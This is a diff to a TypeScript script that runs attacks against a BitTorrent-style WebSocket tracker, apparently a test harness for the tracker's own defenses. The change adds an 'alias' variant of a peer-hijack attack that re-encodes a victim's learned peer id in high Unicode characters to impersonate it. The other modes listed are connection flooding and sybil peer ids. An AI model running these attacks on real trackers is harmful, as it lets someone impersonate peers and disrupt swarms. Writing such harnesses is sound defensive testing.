@@ -6,8 +6,9 @@
 //   silent <count>               opens <count> connections that never send anything; reports how many were closed
 //   crowd <count> <infohash>     opens <count> connections, each announcing; reports answers and closes
 //   sybil <infohash> <ids>       one connection announcing <ids> different peer ids
-//   hijack <infohash>            joins a swarm, learns a victim's peer id from its relayed offer, then speaks for the
-//                                victim from a second connection (stopped, then started) and waits for its answers
+//   hijack <infohash> [alias]    joins a swarm, learns a victim's peer id from its relayed offer, then speaks for the
+//                                victim from a second connection (stopped, then started) and waits for its answers;
+//                                with "alias", spells the id with characters above U+00FF whose low bytes are the id's
 //   peer-id <text> <infohash>    announces with a peer id of the given 20 characters
 //   mute <infohash> <peer-id>    announces, then answers no ping, as a peer whose network vanished
 import { randomBytes } from 'node:crypto'
@@ -126,7 +127,8 @@ switch (attack) {
     let offer = await first.next()
     while (offer && !offer.offer) offer = await first.next()
     if (!offer) { print({ step: 'no-offer' }); break }
-    const victim = offer.peer_id as string
+    const learned = offer.peer_id as string
+    const victim = args[1] === 'alias' ? [...learned].map(c => String.fromCharCode(c.charCodeAt(0) + 0x100)).join('') : learned
     const second = await open()
     second.socket.send(announce(infoHash, victim, { event: 'stopped' }))
     second.socket.send(announce(infoHash, victim))
